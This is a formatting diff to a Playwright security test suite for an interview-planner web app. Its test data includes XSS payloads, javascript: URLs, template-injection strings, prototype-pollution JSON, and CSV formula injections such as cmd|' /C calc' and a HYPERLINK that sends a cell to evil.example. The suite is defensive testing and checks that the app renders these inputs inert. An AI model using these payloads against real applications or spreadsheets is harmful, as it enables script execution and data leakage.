@@ -28,7 +28,10 @@ const hostile: { name: string; text: string }[] = [
   { name: 'an attribute break-out', text: `" autofocus onfocus="window.__pwned=1" x=' onmouseover='window.__pwned=1` },
   { name: 'a javascript: URL', text: 'javascript:window.__pwned=1' },
   { name: 'a disguised javascript: URL', text: ' JaVa\tScRiPt:window.__pwned=1//https://example.org' },
-  { name: 'template and Markdown syntax', text: '{theirName} {{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1} $& [x](javascript:window.__pwned=1)' },
+  {
+    name: 'template and Markdown syntax',
+    text: '{theirName} {{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1} $& [x](javascript:window.__pwned=1)',
+  },
   { name: 'a spreadsheet formula', text: '=HYPERLINK("http://evil.example/?"&A1,"Click")' },
   { name: '20,000 characters in one word', text: LONG },
   { name: 'a right-to-left override', text: '\u202Egnp.exe\u202C invoice' },
@@ -79,7 +82,8 @@ async function expectInert(page: Page, where: string): Promise<void> {
     }
     // An open dialog sits above the page, so it must fit on its own.
     for (const dialog of document.querySelectorAll('dialog[open]')) {
-      if (dialog.scrollWidth > dialog.clientWidth + 1) problems.push(`an open dialog is ${dialog.scrollWidth}px wide inside ${dialog.clientWidth}px`);
+      if (dialog.scrollWidth > dialog.clientWidth + 1)
+        problems.push(`an open dialog is ${dialog.scrollWidth}px wide inside ${dialog.clientWidth}px`);
     }
     for (const el of document.querySelectorAll('script, iframe, object, embed')) {
       if (el.textContent?.includes('__pwned') || el.localName !== 'script') problems.push(`a <${el.localName}> element came from text`);
@@ -124,7 +128,11 @@ async function loadSheetPrint(page: Page): Promise<void> {
 }
 
 /** The text content of the first element `selector` matches. */
-const textOf = (page: Page, selector: string) => page.locator(selector).first().evaluate((el) => el.textContent ?? '');
+const textOf = (page: Page, selector: string) =>
+  page
+    .locator(selector)
+    .first()
+    .evaluate((el) => el.textContent ?? '');
 /** The text of a file the page offers for download when `click` runs. */
 async function downloaded(page: Page, click: () => Promise<void>): Promise<string> {
   const [download] = await Promise.all([page.waitForEvent('download'), click()]);
@@ -136,7 +144,15 @@ async function downloaded(page: Page, click: () => Promise<void>): Promise<strin
 const oneLine = (s: string, max: number) => s.replace(/\r\n|[\r\n]/g, ' ').slice(0, max);
 const multiLine = (s: string, max: number) => s.replace(/\r\n?/g, '\n').slice(0, max);
 const asciiTrim = (s: string) => s.replace(/^[\t\n\f\r ]+|[\t\n\f\r ]+$/g, '');
-const tagsOf = (s: string) => [...new Set(s.split(',').map((t) => clip(t.trim(), limits.tag)).filter(Boolean))].slice(0, limits.tags);
+const tagsOf = (s: string) =>
+  [
+    ...new Set(
+      s
+        .split(',')
+        .map((t) => clip(t.trim(), limits.tag))
+        .filter(Boolean),
+    ),
+  ].slice(0, limits.tags);
 /** A link's encoding of a custom question (a link cannot carry half a character either). */
 const inLink = (s: string) => encodeURIComponent(s.toWellFormed()).replace(/%20/g, '+');
 /** Markdown exports escape what Markdown would act on. */
@@ -172,7 +188,13 @@ test.describe('builder share links', () => {
         const { text, cut } = cleanText(h.text);
         await expect(page.getByText('1 question was too long and was shortened.')).toHaveCount(cut ? 1 : 0);
         await expect(rows(page)).toHaveCount(1);
-        expect(await rows(page).first().getByRole('paragraph').first().evaluate((p) => p.textContent)).toBe(text);
+        expect(
+          await rows(page)
+            .first()
+            .getByRole('paragraph')
+            .first()
+            .evaluate((p) => p.textContent),
+        ).toBe(text);
         expect(await textOf(page, '[data-print-sheet] ol li')).toBe(text);
         expect(await textOf(page, '[data-pocket-card] ol li')).toBe(text);
         await expectInert(page, `a link with ${h.name}`);
@@ -206,12 +228,36 @@ test.describe('builder share links', () => {
   const malformed: { name: string; hash: string; says: string | RegExp }[] = [
     { name: 'broken percent-encoding', hash: '#sheet=v1&q=~c%E0%A4%A,~cfine', says: '“~c%E0%A4%A”' },
     { name: 'half a character, percent-encoded', hash: '#sheet=v1&q=~chalf%ED%A0%80', says: '“~chalf' },
-    { name: 'markup as the version', hash: '#sheet=<script>window.__pwned=1</script>', says: /newer format \(“<script>window\.__pwned=1<\/script>”\)/ },
-    { name: 'markup in every field', hash: '#sheet=v1&t=<img src=x onerror=window.__pwned=1>&g=javascript:window.__pwned=1&q=~x<b>bold</b>,<i>', says: '“~x<b>bold</b>”' },
-    { name: 'a hostile starter sheet', hash: '#preset=<img src=x onerror=window.__pwned=1>', says: 'The link names a starter sheet this handbook does not have.' },
-    { name: 'too many questions', hash: `#sheet=v1&q=${Array.from({ length: 150 }, (_, i) => `~cQuestion+${i}`).join(',')}`, says: '50 more questions beyond the 100 a sheet can hold' },
-    { name: 'repeats and empty pairs', hash: '#sheet=v1&&=&q=~cSame,~eSame,,~c,~c%20,typical-day,typical-day&q=ignored', says: 'a repeat of “~eSame”' },
-    { name: 'a very long address', hash: `#sheet=v1&q=~c${'%F0%9F%98%80'.repeat(5000)}`, says: '1 question was too long and was shortened.' },
+    {
+      name: 'markup as the version',
+      hash: '#sheet=<script>window.__pwned=1</script>',
+      says: /newer format \(“<script>window\.__pwned=1<\/script>”\)/,
+    },
+    {
+      name: 'markup in every field',
+      hash: '#sheet=v1&t=<img src=x onerror=window.__pwned=1>&g=javascript:window.__pwned=1&q=~x<b>bold</b>,<i>',
+      says: '“~x<b>bold</b>”',
+    },
+    {
+      name: 'a hostile starter sheet',
+      hash: '#preset=<img src=x onerror=window.__pwned=1>',
+      says: 'The link names a starter sheet this handbook does not have.',
+    },
+    {
+      name: 'too many questions',
+      hash: `#sheet=v1&q=${Array.from({ length: 150 }, (_, i) => `~cQuestion+${i}`).join(',')}`,
+      says: '50 more questions beyond the 100 a sheet can hold',
+    },
+    {
+      name: 'repeats and empty pairs',
+      hash: '#sheet=v1&&=&q=~cSame,~eSame,,~c,~c%20,typical-day,typical-day&q=ignored',
+      says: 'a repeat of “~eSame”',
+    },
+    {
+      name: 'a very long address',
+      hash: `#sheet=v1&q=~c${'%F0%9F%98%80'.repeat(5000)}`,
+      says: '1 question was too long and was shortened.',
+    },
   ];
   test(`${malformed.length} malformed links are reported, never run`, async ({ page }) => {
     await page.goto(BUILDER);
@@ -278,9 +324,16 @@ test.describe('planner fields typed in', () => {
   for (const h of typable) {
     test(`${h.name}: shown as text on the card, the companion and paper, and exported whole`, async ({ page }) => {
       // The builder's sheet holds the same text as a question, to attach in the companion.
-      await page.addInitScript(([key, text]) => {
-        if (!localStorage.getItem(key!)) localStorage.setItem(key!, JSON.stringify({ v: 1, items: [{ key: 'k1', text, part: 'core' }], minutes: 20, grouped: false, compact: false }));
-      }, [SHEET_KEY, h.text]);
+      await page.addInitScript(
+        ([key, text]) => {
+          if (!localStorage.getItem(key!))
+            localStorage.setItem(
+              key!,
+              JSON.stringify({ v: 1, items: [{ key: 'k1', text, part: 'core' }], minutes: 20, grouped: false, compact: false }),
+            );
+        },
+        [SHEET_KEY, h.text],
+      );
       await openPlanner(page);
       await page.getByRole('button', { name: 'Add a person' }).click();
       const form = page.getByRole('dialog', { name: 'Add a person' });
@@ -324,7 +377,11 @@ test.describe('planner fields typed in', () => {
       const shows = async () => {
         const text = await card.evaluate((el) => el.textContent ?? '');
         for (const part of [want.name, `${want.role}, ${want.organisation}`, `Place: ${place}`, ...want.tags]) expect(text).toContain(part);
-        for (const [label, value] of [['Email', want.email], ['Phone', want.phone], ['Profile', want.profileUrl]] as const) {
+        for (const [label, value] of [
+          ['Email', want.email],
+          ['Phone', want.phone],
+          ['Profile', want.profileUrl],
+        ] as const) {
           if (value.trim()) expect(text).toContain(`${label}: ${value}`);
         }
         for (const href of await card.locator('a[href]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).protocol))) {
@@ -355,9 +412,18 @@ test.describe('planner fields typed in', () => {
       expect(json.data.conversations[0]).toMatchObject({ place, notes });
       const [row] = csvRecords(await downloaded(page, () => page.getByRole('button', { name: 'Export spreadsheet (CSV)' }).click()));
       expect(row).toMatchObject({
-        Name: csvCell(want.name), Role: csvCell(want.role), Organisation: csvCell(want.organisation), 'How you know them': csvCell(want.howKnown),
-        Email: csvCell(want.email), Phone: csvCell(want.phone), 'Profile link': csvCell(want.profileUrl), Tags: csvCell(want.tags.join(', ')),
-        'Person notes': csvCell(want.notes), Place: csvCell(place), 'Conversation notes': csvCell(notes), Status: 'Scheduled',
+        Name: csvCell(want.name),
+        Role: csvCell(want.role),
+        Organisation: csvCell(want.organisation),
+        'How you know them': csvCell(want.howKnown),
+        Email: csvCell(want.email),
+        Phone: csvCell(want.phone),
+        'Profile link': csvCell(want.profileUrl),
+        Tags: csvCell(want.tags.join(', ')),
+        'Person notes': csvCell(want.notes),
+        Place: csvCell(place),
+        'Conversation notes': csvCell(notes),
+        Status: 'Scheduled',
       });
       const events = icsEvents(await downloaded(page, () => page.getByRole('button', { name: 'Export calendar (.ics)' }).click()));
       const meeting = events.find((e) => e.uid === `${talk.id}@informational-interview-planner`)!;
@@ -374,27 +440,39 @@ test.describe('planner fields typed in', () => {
       expect(await talkMode.getByRole('heading', { level: 3 }).evaluate((el) => el.textContent)).toBe(question);
       await talkMode.getByLabel('Notes on question 1').fill(h.text);
       const debrief = page.getByRole('region', { name: '3. Debrief' });
-      for (const label of ['What I learned', 'How it fits my interests, strengths and values', 'What I will do next']) await debrief.getByLabel(label).fill(h.text);
+      for (const label of ['What I learned', 'How it fits my interests, strengths and values', 'What I will do next'])
+        await debrief.getByLabel(label).fill(h.text);
       await debrief.getByLabel('Name (required)').fill(h.text);
       await debrief.getByLabel('Role').fill(h.text);
       await debrief.getByLabel('Organisation').fill(h.text);
       await debrief.getByRole('button', { name: 'Add to the planner' }).click();
       const suggested = oneLine(h.text, limits.short).trim();
       await expect(debrief.getByRole('status').filter({ hasText: 'Added' })).toBeVisible();
-      expect(await debrief.getByRole('listitem').first().evaluate((el) => el.textContent)).toBe(`${suggested} — ${suggested}, ${suggested}`);
+      expect(
+        await debrief
+          .getByRole('listitem')
+          .first()
+          .evaluate((el) => el.textContent),
+      ).toBe(`${suggested} — ${suggested}, ${suggested}`);
       await expectInert(page, `the companion with ${h.name}`);
 
       await page.reload();
       const typed = multiLine(h.text, limits.long);
       await expect(talkMode.getByLabel('Notes on question 1')).toHaveValue(typed);
-      for (const label of ['What I learned', 'How it fits my interests, strengths and values', 'What I will do next']) await expect(debrief.getByLabel(label)).toHaveValue(typed);
+      for (const label of ['What I learned', 'How it fits my interests, strengths and values', 'What I will do next'])
+        await expect(debrief.getByLabel(label)).toHaveValue(typed);
       expect(await textOf(page, 'main p.text-xl')).toBe(`With ${want.name} — ${want.role}, ${want.organisation}`);
       const stored = (await saved()).conversations.find((c: { id: string }) => c.id === talk.id);
       expect(stored).toMatchObject({ learned: typed, fit: typed, nextStep: typed, questions: [{ text: question, notes: typed }] });
 
       // On paper: the journal and the question sheet with the person's details.
       await loadSheetPrint(page);
-      expect(await page.locator('[data-print-sheet] dd').allTextContents()).toEqual([want.name, want.role, want.organisation, expect.any(String)]);
+      expect(await page.locator('[data-print-sheet] dd').allTextContents()).toEqual([
+        want.name,
+        want.role,
+        want.organisation,
+        expect.any(String),
+      ]);
       expect(await textOf(page, '[data-print-sheet] ol li')).toBe(question);
       const journal = await textOf(page, '[data-journal-print]');
       for (const part of [`Conversation with ${want.name}`, question, typed]) expect(journal).toContain(part);
@@ -408,7 +486,9 @@ test.describe('planner fields typed in', () => {
       // The thank-you note: the name in the text, and a link that can only be an email.
       await page.getByRole('button', { name: 'Write the thank-you note…' }).click();
       const thanks = page.getByRole('dialog');
-      await expect(thanks.getByRole('textbox', { name: /Message/ })).toHaveValue(new RegExp(`Dear ${want.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+      await expect(thanks.getByRole('textbox', { name: /Message/ })).toHaveValue(
+        new RegExp(`Dear ${want.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
+      );
       expect(await thanks.getByRole('link', { name: /Open in my mail program/ }).getAttribute('href')).toMatch(/^mailto:[^:]*\?subject=/);
       await expectInert(page, `the thank-you note with ${h.name}`);
     });
@@ -420,18 +500,41 @@ function hostileBackup() {
   const cut = (s: string, max: number) => s.slice(0, max);
   const people = hostile.map((h, i) =>
     person(`p${i}`, cut(h.text, limits.short), {
-      role: cut(h.text, limits.short), organisation: cut(h.text, limits.short), referredBy: i > 0 ? `p${i - 1}` : null, howKnown: cut(h.text, limits.medium),
-      email: cut(h.text, limits.short), phone: cut(h.text, limits.short), profileUrl: cut(h.text, limits.medium), tags: [cut(h.text, limits.tag)], notes: h.text,
+      role: cut(h.text, limits.short),
+      organisation: cut(h.text, limits.short),
+      referredBy: i > 0 ? `p${i - 1}` : null,
+      howKnown: cut(h.text, limits.medium),
+      email: cut(h.text, limits.short),
+      phone: cut(h.text, limits.short),
+      profileUrl: cut(h.text, limits.medium),
+      tags: [cut(h.text, limits.tag)],
+      notes: h.text,
     }),
   );
   const talks = hostile.map((h, i) =>
     conversation(`c${i}`, `p${i}`, {
-      status: 'scheduled', scheduledDate: dayFromToday(1), scheduledTime: '09:30', format: 'phone', place: cut(h.text, limits.medium), notes: h.text,
-      questions: [{ key: 'q1', bankId: null, text: cut(h.text, limits.medium), notes: h.text }], minutes: 20, learned: h.text, fit: h.text, nextStep: h.text,
+      status: 'scheduled',
+      scheduledDate: dayFromToday(1),
+      scheduledTime: '09:30',
+      format: 'phone',
+      place: cut(h.text, limits.medium),
+      notes: h.text,
+      questions: [{ key: 'q1', bankId: null, text: cut(h.text, limits.medium), notes: h.text }],
+      minutes: 20,
+      learned: h.text,
+      fit: h.text,
+      nextStep: h.text,
     }),
   );
   const list = hostile.map((h) => cut(h.text, limits.medium));
-  return plannerDocument(people, talks, { myName: cut(hostile[1]!.text, limits.short), fields: hostile.map((h) => cut(h.text, limits.short)), interests: list, strengths: list, values: list, updatedAt: '2025-01-01T00:00:00.000Z' });
+  return plannerDocument(people, talks, {
+    myName: cut(hostile[1]!.text, limits.short),
+    fields: hostile.map((h) => cut(h.text, limits.short)),
+    interests: list,
+    strengths: list,
+    values: list,
+    updatedAt: '2025-01-01T00:00:00.000Z',
+  });
 }
 
 test.describe('planner backup files', () => {
@@ -443,9 +546,15 @@ test.describe('planner backup files', () => {
     await page.getByRole('button', { name: 'Import backup…' }).click();
     const dialog = page.getByRole('dialog', { name: 'Import a backup' });
     // Lone surrogates travel as JSON escapes (\ud800), which is how JSON.stringify writes them.
-    await dialog.getByLabel('Backup file').setInputFiles({ name: '<img src=x onerror=window.__pwned=1>.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(backup)) });
+    await dialog.getByLabel('Backup file').setInputFiles({
+      name: '<img src=x onerror=window.__pwned=1>.json',
+      mimeType: 'application/json',
+      buffer: Buffer.from(JSON.stringify(backup)),
+    });
     await expect(dialog.getByText('“<img src=x onerror=window.__pwned=1>.json” is a valid backup')).toBeVisible();
-    await expect(dialog.getByRole('list', { name: 'What the import will do' })).toContainText(`Add ${hostile.length} people and ${hostile.length} conversations`);
+    await expect(dialog.getByRole('list', { name: 'What the import will do' })).toContainText(
+      `Add ${hostile.length} people and ${hostile.length} conversations`,
+    );
     await expectInert(page, 'the import preview');
     await dialog.getByRole('button', { name: 'Merge the backup' }).click();
     await expect(dialog).toBeHidden();
@@ -454,7 +563,8 @@ test.describe('planner backup files', () => {
     await expect(cards).toHaveCount(hostile.length);
     for (const [i, p] of people.entries()) {
       const text = await page.locator(`article[aria-labelledby="conversation-c${i}"]`).evaluate((el) => el.textContent ?? '');
-      for (const part of [p.name, `${p.role}, ${p.organisation}`, `Place: ${conversations[i]!.place}`, ...p.tags]) expect(text, hostile[i]!.name).toContain(part);
+      for (const part of [p.name, `${p.role}, ${p.organisation}`, `Place: ${conversations[i]!.place}`, ...p.tags])
+        expect(text, hostile[i]!.name).toContain(part);
       if (i > 0) expect(text).toContain(`Referred by ${people[i - 1]!.name}`);
     }
     await expectInert(page, 'the planner with imported records');
@@ -485,10 +595,22 @@ test.describe('planner backup files', () => {
     const records = csvRecords(await downloaded(page, () => page.getByRole('button', { name: 'Export spreadsheet (CSV)' }).click()));
     for (const [i, p] of people.entries()) {
       const c = conversations[i]!;
-      expect(records.find((r) => r['Conversation id'] === c.id), hostile[i]!.name).toMatchObject({
-        Name: csvCell(p.name), Role: csvCell(p.role), Organisation: csvCell(p.organisation), 'Referred by': i > 0 ? csvCell(people[i - 1]!.name) : '',
-        'How you know them': csvCell(p.howKnown), Email: csvCell(p.email), Phone: csvCell(p.phone), 'Profile link': csvCell(p.profileUrl),
-        Tags: csvCell(p.tags.join(', ')), 'Person notes': csvCell(p.notes), Place: csvCell(c.place), 'Conversation notes': csvCell(c.notes),
+      expect(
+        records.find((r) => r['Conversation id'] === c.id),
+        hostile[i]!.name,
+      ).toMatchObject({
+        Name: csvCell(p.name),
+        Role: csvCell(p.role),
+        Organisation: csvCell(p.organisation),
+        'Referred by': i > 0 ? csvCell(people[i - 1]!.name) : '',
+        'How you know them': csvCell(p.howKnown),
+        Email: csvCell(p.email),
+        Phone: csvCell(p.phone),
+        'Profile link': csvCell(p.profileUrl),
+        Tags: csvCell(p.tags.join(', ')),
+        'Person notes': csvCell(p.notes),
+        Place: csvCell(c.place),
+        'Conversation notes': csvCell(c.notes),
       });
     }
     const events = icsEvents(await downloaded(page, () => page.getByRole('button', { name: 'Export calendar (.ics)' }).click()));
@@ -507,7 +629,12 @@ test.describe('planner backup files', () => {
         await page.evaluate((id) => (location.hash = id), `#c${i}`);
         await expect(page.locator('main p.text-xl')).toBeVisible();
         expect(await textOf(page, 'main p.text-xl')).toBe(`With ${p.name} — ${p.role}, ${p.organisation}`);
-        expect(await page.getByRole('region', { name: '2. Conversation mode' }).getByRole('heading', { level: 3 }).evaluate((el) => el.textContent)).toBe(c.questions[0]!.text);
+        expect(
+          await page
+            .getByRole('region', { name: '2. Conversation mode' })
+            .getByRole('heading', { level: 3 })
+            .evaluate((el) => el.textContent),
+        ).toBe(c.questions[0]!.text);
         await expect(page.getByLabel('Notes on question 1')).toHaveValue(c.questions[0]!.notes.replace(/\r\n?/g, '\n'));
         await expect(page.getByLabel('What I learned')).toHaveValue(c.learned.replace(/\r\n?/g, '\n'));
         const journal = await textOf(page, '[data-journal-print]');
@@ -543,37 +670,104 @@ test.describe('planner backup files', () => {
     expect(strip((await stored()).people)).toEqual(strip(resaved));
   });
 
-  const formulas = ['=HYPERLINK("http://evil.example","Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\u0000=1+1'];
+  const formulas = [
+    '=HYPERLINK("http://evil.example","Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\u0000=1+1',
+  ];
   test('formula cells in a backup come out of the spreadsheet export neutralised', async ({ page }) => {
     const f = (i: number) => formulas[i % formulas.length]!;
     const backup = plannerDocument(
-      [person('f', f(0), { role: f(1), organisation: f(2), howKnown: f(3), email: f(4), phone: f(5), profileUrl: f(6), tags: [f(1)], notes: f(2) })],
+      [
+        person('f', f(0), {
+          role: f(1),
+          organisation: f(2),
+          howKnown: f(3),
+          email: f(4),
+          phone: f(5),
+          profileUrl: f(6),
+          tags: [f(1)],
+          notes: f(2),
+        }),
+      ],
       [conversation('fc', 'f', { place: f(3), notes: f(4) })],
     );
     await openPlanner(page);
     await page.getByRole('button', { name: 'Import backup…' }).click();
     const dialog = page.getByRole('dialog', { name: 'Import a backup' });
-    await dialog.getByLabel('Backup file').setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(backup)) });
+    await dialog
+      .getByLabel('Backup file')
+      .setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(backup)) });
     await dialog.getByRole('button', { name: 'Merge the backup' }).click();
     await expect(page.locator('article[aria-labelledby="conversation-fc"]')).toBeVisible();
     const [row] = csvRecords(await downloaded(page, () => page.getByRole('button', { name: 'Export spreadsheet (CSV)' }).click()));
-    const cells = ['Name', 'Role', 'Organisation', 'How you know them', 'Email', 'Phone', 'Profile link', 'Tags', 'Person notes', 'Place', 'Conversation notes'] as const;
+    const cells = [
+      'Name',
+      'Role',
+      'Organisation',
+      'How you know them',
+      'Email',
+      'Phone',
+      'Profile link',
+      'Tags',
+      'Person notes',
+      'Place',
+      'Conversation notes',
+    ] as const;
     for (const cell of cells) expect(row![cell], cell).toMatch(/^'[=+\-@\t\r\0]/);
     expect(row!.Name).toBe(`'${f(0)}`);
     await expectInert(page, 'the planner with formulas');
   });
 
   const refused: { name: string; file: string; says: string }[] = [
-    { name: 'a CSV file with formula cells', file: 'Name,Notes\r\n=HYPERLINK("http://evil.example"),+cmd|\' /C calc\'!A0\r\n@SUM(1+1),-2+3\r\n', says: 'The file is not JSON' },
-    { name: 'an HTML page', file: '<!doctype html><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">', says: 'The file is not JSON' },
-    { name: 'a name longer than the limit', file: JSON.stringify(plannerDocument([person('a', `${LONG}W`)], [])), says: `data.people[0].name: must be at most ${limits.short} characters` },
-    { name: 'a note longer than the limit', file: JSON.stringify(plannerDocument([person('a', 'Ada', { notes: `${LONG}W` })], [])), says: `data.people[0].notes: must be at most ${limits.long} characters` },
-    { name: 'markup as a version', file: JSON.stringify({ version: '<img src=x onerror=window.__pwned=1>', data: {} }), says: 'is not a valid planner backup' },
-    { name: 'markup in a repeated id', file: JSON.stringify(plannerDocument([person('<b onmouseover=window.__pwned=1>', 'A'), person('<b onmouseover=window.__pwned=1>', 'B')], [])), says: 'the id "<b onmouseover=window.__pwned=1>" is used by more than one record' },
-    { name: 'a prototype-polluting key', file: '{"__proto__":{"polluted":1},"version":3,"data":{"__proto__":{"x":1}}}', says: 'is not a valid planner backup' },
+    {
+      name: 'a CSV file with formula cells',
+      file: 'Name,Notes\r\n=HYPERLINK("http://evil.example"),+cmd|\' /C calc\'!A0\r\n@SUM(1+1),-2+3\r\n',
+      says: 'The file is not JSON',
+    },
+    {
+      name: 'an HTML page',
+      file: '<!doctype html><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">',
+      says: 'The file is not JSON',
+    },
+    {
+      name: 'a name longer than the limit',
+      file: JSON.stringify(plannerDocument([person('a', `${LONG}W`)], [])),
+      says: `data.people[0].name: must be at most ${limits.short} characters`,
+    },
+    {
+      name: 'a note longer than the limit',
+      file: JSON.stringify(plannerDocument([person('a', 'Ada', { notes: `${LONG}W` })], [])),
+      says: `data.people[0].notes: must be at most ${limits.long} characters`,
+    },
+    {
+      name: 'markup as a version',
+      file: JSON.stringify({ version: '<img src=x onerror=window.__pwned=1>', data: {} }),
+      says: 'is not a valid planner backup',
+    },
+    {
+      name: 'markup in a repeated id',
+      file: JSON.stringify(
+        plannerDocument([person('<b onmouseover=window.__pwned=1>', 'A'), person('<b onmouseover=window.__pwned=1>', 'B')], []),
+      ),
+      says: 'the id "<b onmouseover=window.__pwned=1>" is used by more than one record',
+    },
+    {
+      name: 'a prototype-polluting key',
+      file: '{"__proto__":{"polluted":1},"version":3,"data":{"__proto__":{"x":1}}}',
+      says: 'is not a valid planner backup',
+    },
     { name: 'deep nesting', file: `${'['.repeat(100_000)}${']'.repeat(100_000)}`, says: 'is not a valid planner backup' },
     { name: 'NUL bytes', file: '\u0000\u0000{"version":3}', says: 'The file is not JSON' },
-    { name: 'an id holding half a character', file: JSON.stringify(plannerDocument([person('half\uD800', 'Ada')], [])), says: 'data.people[0].id: must not hold half a character' },
+    {
+      name: 'an id holding half a character',
+      file: JSON.stringify(plannerDocument([person('half\uD800', 'Ada')], [])),
+      says: 'data.people[0].id: must not hold half a character',
+    },
   ];
   test(`${refused.length} hostile files are refused with a message and change nothing`, async ({ page }) => {
     await seed(page, JSON.stringify(plannerDocument([person('a', 'Ada Okafor')], [conversation('ca', 'a')])));
@@ -583,7 +777,9 @@ test.describe('planner backup files', () => {
     const dialog = page.getByRole('dialog', { name: 'Import a backup' });
     for (const r of refused) {
       await test.step(r.name, async () => {
-        await dialog.getByLabel('Backup file').setInputFiles({ name: `${r.name}.json`, mimeType: 'application/json', buffer: Buffer.from(r.file) });
+        await dialog
+          .getByLabel('Backup file')
+          .setInputFiles({ name: `${r.name}.json`, mimeType: 'application/json', buffer: Buffer.from(r.file) });
         await expect(dialog.getByRole('alert')).toContainText(r.says);
         await expect(dialog.getByRole('alert')).toContainText('Nothing was changed.');
         await expectInert(page, `an import of ${r.name}`);
@@ -596,10 +792,19 @@ test.describe('planner backup files', () => {
   test('ids with markup still open people and conversations, and never become markup', async ({ page }) => {
     // Ids name elements, and aria-labelledby splits its value at spaces, so ids with spaces are
     // here too; so are two that a simple "replace odd characters" would make the same.
-    const ids = ['<img/src=x/onerror=window.__pwned=1>', 'javascript:window.__pwned=1', '"><svg/onload=window.__pwned=1>', '../../?#%00%', 'two words', 'two_words'];
+    const ids = [
+      '<img/src=x/onerror=window.__pwned=1>',
+      'javascript:window.__pwned=1',
+      '"><svg/onload=window.__pwned=1>',
+      '../../?#%00%',
+      'two words',
+      'two_words',
+    ];
     const backup = plannerDocument(
       ids.map((id, i) => person(id, `Person ${i}`, { referredBy: i > 0 ? ids[i - 1]! : null, email: 'a@example.org' })),
-      ids.map((id, i) => conversation(`c:${id}`, id, { status: 'done', doneOn: dayFromToday(-2), scheduledDate: dayFromToday(-2), learned: `Learned ${i}` })),
+      ids.map((id, i) =>
+        conversation(`c:${id}`, id, { status: 'done', doneOn: dayFromToday(-2), scheduledDate: dayFromToday(-2), learned: `Learned ${i}` }),
+      ),
     );
     await seed(page, JSON.stringify(backup));
     await openPlanner(page);
@@ -617,7 +822,10 @@ test.describe('planner backup files', () => {
     await expectInert(page, 'the referral tree with hostile ids');
     for (const [i] of ids.entries()) {
       await test.step(`the companion of person ${i}`, async () => {
-        await page.getByRole('article', { name: `Person ${i}` }).getByRole('link', { name: 'Conversation companion' }).click();
+        await page
+          .getByRole('article', { name: `Person ${i}` })
+          .getByRole('link', { name: 'Conversation companion' })
+          .click();
         await expect(page.locator('main p.text-xl')).toHaveText(`With Person ${i}`);
         await page.getByRole('button', { name: 'Write the thank-you note…' }).click();
         await expect(page.getByRole('dialog', { name: `Thank-you note to Person ${i}` })).toBeVisible();
@@ -629,7 +837,10 @@ test.describe('planner backup files', () => {
 });
 
 test.describe('the address bar', () => {
-  const payloads = typable.filter((h) => h.text !== LONG).map((h) => h.text).concat(`x${'<b>'.repeat(5000)}`);
+  const payloads = typable
+    .filter((h) => h.text !== LONG)
+    .map((h) => h.text)
+    .concat(`x${'<b>'.repeat(5000)}`);
   const pages = [
     { path: PLANNER, marker: '[data-ready]', prefix: '#person-', says: 'This person is not in the planner' },
     { path: '/planner/conversation/', marker: '[data-ready]', prefix: '#', says: 'This conversation is not in your planner.' },
@@ -664,7 +875,9 @@ test.describe('the address bar', () => {
 
   test('the counselors’ link builder takes no free text', async ({ page }) => {
     await page.goto('/counselors/');
-    await expect(page.locator('link-builder').locator('input[type="text"]:not([readonly]), input:not([type]), textarea, [contenteditable]')).toHaveCount(0);
+    await expect(
+      page.locator('link-builder').locator('input[type="text"]:not([readonly]), input:not([type]), textarea, [contenteditable]'),
+    ).toHaveCount(0);
   });
 });
 
